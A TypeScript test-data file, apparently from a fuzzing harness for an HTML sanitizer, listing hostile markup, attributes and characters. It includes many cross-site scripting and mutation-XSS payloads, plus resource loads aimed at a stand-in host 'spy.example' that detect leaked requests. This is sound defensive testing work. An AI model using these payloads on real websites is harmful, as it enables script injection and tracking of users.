// Hostile pieces that mutations insert into pages: markup, attributes and characters.
import { ATTACKS, arm } from '../table.ts';

/** Stands for a server that must not be reached; benches replace it by the origin of a spy. */
export const SPY = 'http://spy.example';
const RUN = '__canary(1)';
const LONG = 2_000;

const OWN: readonly string[] = [
	`<meta http-equiv=refresh content="0;url=${SPY}/refresh">`,
	`<base href="${SPY}/base/">`,
	`<base href="javascript:${RUN}//">`,
	`<base href="https://long.example/${'a/'.repeat(LONG)}">`,
	`<script type=importmap>{"imports":{"a":"${SPY}/a.js"}}</script><script type=module>import 'a'</script>`,
	`<script type=speculationrules>{"prefetch":[{"urls":["${SPY}/prefetch"]}]}</script>`,
	`<link rel=preload as=image href="${SPY}/preload.png" imagesrcset="${SPY}/p2.png 1x"><link rel=preconnect href="${SPY}">`,
	`<link rel=stylesheet href="${SPY}/style.css"><style>@import "${SPY}/import.css";*{background:url(${SPY}/css)}</style>`,
	`<img srcset="${SPY}/a.png 1x, javascript:${RUN} 2x, data:text/html,<script>${RUN}</script> 3x" sizes=1px alt=a>`,
	`<img src="${SPY}/lazy.png" loading=lazy onload=${RUN} onerror=${RUN} alt="&quot; onerror=${RUN}">`,
	`<picture><source srcset="${SPY}/s.png"><img data-src="${SPY}/d.png" alt="<b onclick=${RUN}>"></picture>`,
	`<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;" onload=${RUN}></iframe>`,
	`<noscript><style></noscript><img src=x onerror=${RUN}>`,
	`<template><math><mtext></template><img src=x onerror=${RUN}>`,
	`<math><annotation-xml encoding="text/html"><template><style></annotation-xml></math><img src=x onerror=${RUN}>`,
	`<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>"></textarea></mtext></svg></mglyph></mtext></math>`,
	`<svg><a xlink:href="javascript:${RUN}"><text>x</text><animate attributeName=href to="javascript:${RUN}"/><set attributeName=onclick to="${RUN}"/></a></svg>`,
	`<svg><image xlink:href="${SPY}/xlink.png" onerror=${RUN} /><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
	`<svg><style><!--</style><foreignObject><p title="--></style><img src=x onerror=${RUN}>"></foreignObject></svg>`,
	`<a href="&#106;avascript:${RUN}">a</a><a href=" \tjava\nscript:${RUN}">b</a><a href="vbscript:x">c</a><a href="data:text/html,<script>${RUN}</script>">d</a>`,
	`<a href="https://user:password@${new URL(SPY).host}/">user</a><a href="//${new URL(SPY).host}/x">scheme</a><a href="https:x">bare</a>`,
	`<form id=user-content-x action="${SPY}/form"><input name=attributes><input name=nodeName><button formaction="javascript:${RUN}">x</button></form>`,
	`<details open ontoggle=${RUN}><summary>s</summary><video autoplay src="${SPY}/v.mp4" onplay=${RUN}></video></details>`,
	`<b><p><b><a href="#x"><table><b><tr><td><a href="#y"></b></a><caption>`,
	`<table><tr><td><table><tr><td></table></table></table></td></tr></p></p>`,
	`<select><math><option><style></select><img src=x onerror=${RUN}>`,
	`<frameset><frame src="javascript:${RUN}"></frameset><plaintext>`,
	'<!--[if IE]><p>ie</p><![endif]--><![CDATA[ <p>cdata</p> ]]><?xml version="1.0"?><!ELEMENT a>',
	`<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"<img src=x onerror=${RUN}>","articleBody":"&lt;script&gt;${RUN}&lt;/script&gt; ${'word '.repeat(60)}","author":[{"name":"<b>"},{"name":["x"]},null,7],"image":{"url":["javascript:${RUN}"]},"datePublished":"9999999-99-99"}</script>`,
	'<script type="application/ld+json">{"@graph":[{"@graph":[[[[{"@type":["Article",null],"author":{"author":{}}}]]]]}],"__proto__":{"x":1}}</script>',
	`<meta property="og:title" content="<img src=x onerror=${RUN}>&lt;b&gt;"><meta property="og:image" content="javascript:${RUN}"><meta name=author content="\u202e&#0;&#xd800;">`,
	'<script type="math/tex; mode=display">\\frac{\\href{javascript:x}{y}}{\\def\\a{\\a\\a}\\a}</script>',
	`<p>$$${'{'.repeat(300)}$$ \\(${'\\frac'.repeat(90)}\\) \\[\\begin{matrix}&&&\\\\\\[</p><script src=/mathjax.js></script>`,
	'<formula-slot data-n="0"></formula-slot><formula-slot data-n="00000001">x</formula-slot><left-out>y</left-out>',
	'<p id="user-content-user-content-x">a</p><a href="#user-content-x">b</a><a href="#%00">c</a><a href="#%E0%A4%A">d</a><a href="#:~:text=x">e</a>',
	'<ol start=-99999999999 reversed=x type=Z><li value=1e9>x</ol><td colspan=0 rowspan=65535>y<table><td colspan=99 rowspan=99>z</table>',
	`<p dir=${'rtl'.repeat(9)} lang="${'x'.repeat(300)}" class="${'c '.repeat(3_000)}" title="${'t'.repeat(300)}">attributes</p>`,
	`<p ${Array.from({ length: 150 }, (_none, index) => `data-a${index}="/p/${index}.jpg"`).join(' ')}>flood</p>`,
	'<html><body><html lang=fr class=x><head><title>second</title></head><body onload=x><p>again</body></html>',
	'</html></body></article></div></main></p></br></table></svg></math></select></template>',
	'<br/><hr/><image src=/p/7.jpg><isindex><keygen><listing>&lt;</listing><xmp><b></xmp><nobr><nobr>',
	'<ruby>漢<rp>(<rt>kan<rtc>x</ruby><bdo dir=rtl>bdo</bdo><bdi>bdi</bdi><wbr><time datetime="P99999999999Y">t</time>',
	`<p>${'\u0301'.repeat(400)} z${'\u0489'.repeat(400)}</p><p>${'\u202e\u2066\u2067'.repeat(40)}bidi</p>`,
	`<p>${'unbroken'.repeat(400)}</p><pre>${'\t'.repeat(400)}x</pre>`,
	'&#0;&#x0;&#xd800;&#xdfff;&#x110000;&#x80;&#99999999999;&notit;&amp;amp;lt;&NotEqualTilde;&lt&gt&quot',
	'<x-y><x:y><a:href><1><$><a"b\'c=d><p "=x><p =y><p/a/b=c/>odd</p>'
];

/** Pieces of markup. */
export const FRAGMENTS: readonly string[] = [
	...OWN,
	...ATTACKS.map((attack) => arm(attack, { spy: SPY, app: 'https://app.example' }))
];

/** Attributes, put into a tag. */
export const HOSTILE_ATTRIBUTES: readonly string[] = [
	...`onclick onload onerror onfocus onmouseover onanimationstart ontoggle onbegin`
		.split(' ')
		.map((name) => `${name}=${RUN}`),
	`style="background:url(${SPY}/style);position:fixed;inset:0;z-index:9;display:none"`,
	'style=display:none',
	`href="javascript:${RUN}"`,
	`src="${SPY}/src.png"`,
	`src="data:text/html,<script>${RUN}</script>"`,
	`srcset="${SPY}/srcset.png 1x"`,
	`data-src="${SPY}/data.png"`,
	`poster="${SPY}/poster.png"`,
	`background="${SPY}/background.png"`,
	`xlink:href="javascript:${RUN}"`,
	`srcdoc="<script>${RUN}</script>"`,
	`action="${SPY}/action" formaction="javascript:${RUN}"`,
	`ping="${SPY}/ping"`,
	'autofocus tabindex=1 contenteditable accesskey=x popover',
	'is=x-y slot=z part=p shadowrootmode=open',
	'id=__proto__',
	'id=location name=location',
	'id="a b"',
	'class="sidebar advert hidden comment"',
	'role=note hidden aria-hidden=true',
	'itemprop=articleBody itemscope',
	'data-post=opening data-embed=video data-href=javascript:1',
	'encoding="text/html" definitionURL=x',
	'dir=auto lang=a',
	'colspan=99 rowspan=99',
	'title="</p><img src=x onerror=1>"',
	'"\'`=<'
];

/** Characters, put into the text. */
export const HOSTILE_CHARACTERS: readonly string[] = [
	...['\0', '\u0001', '\b', '\v', '\f', '\r', '\x1b[31m', '\x7f', '\x85', '\u00a0', '\u00ad'],
	...['\u200b', '\u200e', '\u200f', '\u202e', '\u2066', '\u2028', '\u2029', '\ufeff', '\ufffd', '\uffff', '\u{e0041}'],
	...[
		'\ud800',
		'\udc00',
		'\ud83d\ude00',
		'\u0301'.repeat(50),
		'\u{1f1e6}'.repeat(9),
		'<',
		'>',
		'&',
		'"',
		"'",
		'`',
		'=',
		'/',
		'\\',
		'$$',
		'\\(',
		'{',
		'}'
	]
];
